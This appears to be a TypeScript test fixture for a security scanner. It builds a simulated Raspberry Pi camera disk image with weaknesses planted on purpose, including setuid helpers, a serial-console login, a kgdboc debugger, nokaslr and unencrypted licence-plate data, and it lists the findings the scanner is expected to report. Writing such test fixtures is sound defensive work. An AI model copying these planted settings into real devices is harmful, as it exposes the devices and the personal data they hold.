  f('exposure/setuid-files-owned', 'vid-cap'), f('exposure/setuid-files-owned', 'vid-log'), f('exposure/setuid-files-owned', 'pyrun'),
  f('exposure/binaries-hardened', 'detectord', 'pie'), f('exposure/binaries-hardened', 'detectord', 'relro'), f('crypto/libraries-supported', 'libcrypto.so.1.1'), f('crypto/libraries-supported', 'tlsd'),
  f('data/personal-data-protected-at-rest', 'plates.sqlite3'), f('data/personal-data-protected-at-rest', 'export.csv'), f('data/logs-free-of-personal-data', 'fieldcam.log.1'), f('data/logs-free-of-personal-data', '/var/log/fieldcam.log'),
  f(S, 'backup-2024-02'), f(K, 'backup-2024-02'),
  f('exposure/kernel-settings-hardened', '99-cam', 'sysrq'), f('exposure/kernel-settings-hardened', '99-cam', 'randomize'),
  f('debug/no-serial-console-login', undefined, 'ttyAMA0'), f('debug/no-recovery-shell', 'cmdline'), f('debug/no-debug-features-left-on', 'config.txt', 'jtag'), f('debug/no-debug-features-left-on', 'cmdline.txt', 'kgdboc'), f('exposure/kernel-settings-hardened', 'cmdline.txt', 'nokaslr'),
  f('exposure/packet-filter-configured'), f('boot/boot-partition-authenticated'), f('storage/data-at-rest-encrypted'), f('integrity/root-filesystem-authenticated'), f('integrity/root-filesystem-read-only'), f('boot/platform-authenticates-boot'),
]
export const fieldCamera: Recipe = { title: 'Camera on Raspberry Pi OS with the traces of its makers and of a stranger', tools: [...usualTools, 'sqlite3', 'tar', 'gzip'], quiet: [
  { at: '/usr/share/doc' }, { check: K, at: '/usr/share/ca-certificates' }, { at: '/tests/vectors' }, { at: '.env.example' }, { about: 'daemon' }, { about: 'PLACEHOLDER' }, { check: 'exposure/no-empty-passwords', about: 'sync' } ], expected,
  build(shop) {
    const b = shop.fat('boot.fat', boot(shop), 34, 'bootfs')
    const base = dpkg([{ name: 'base-files', version: '12.4+deb12u7', files: { '/usr/lib/os-release': 'PRETTY_NAME="Debian GNU/Linux 12 (bookworm)"\nNAME="Debian GNU/Linux"\nVERSION_ID="12"\nVERSION="12 (bookworm)"\nVERSION_CODENAME=bookworm\nID=debian\n' } },
      { name: 'systemd', version: '252.30-1~deb12u2', files: { '/usr/lib/systemd/systemd': program(shop.elf(programSource('systemd'), hardenedFlags)) } }, { name: 'bash', version: '5.2', files: { '/usr/bin/bash': program(shop.elf(programSource('bash'), hardenedFlags)) } },
      { name: 'cron', version: '3.0pl1-162', files: { '/usr/sbin/cron': program(shop.elf(programSource('cron'), hardenedFlags)), '/usr/lib/systemd/system/cron.service': '[Unit]\nDescription=cron\n[Service]\nExecStart=/usr/sbin/cron -f\n[Install]\nWantedBy=multi-user.target\n' } }, { name: 'dropbear-bin', version: '2022.83-1+deb12u2', files: { '/usr/sbin/dropbear': program(shop.elf(programSource('dropbear'), hardenedFlags)) } }])
    const r = shop.ext4('root.ext4', { ...base, '/sbin': link('usr/sbin'), '/bin': link('usr/bin'), '/lib': link('usr/lib'), '/usr/sbin/init': link('../lib/systemd/systemd'), '/etc/os-release': link('../usr/lib/os-release'), [wants('cron.service')]: link('/usr/lib/systemd/system/cron.service'), ...overlay(shop) }, 64)
    return [shop.disk('cam.img', 'dos', [{ file: b, type: 'c' }, { file: r, type: '83' }])]
  } }
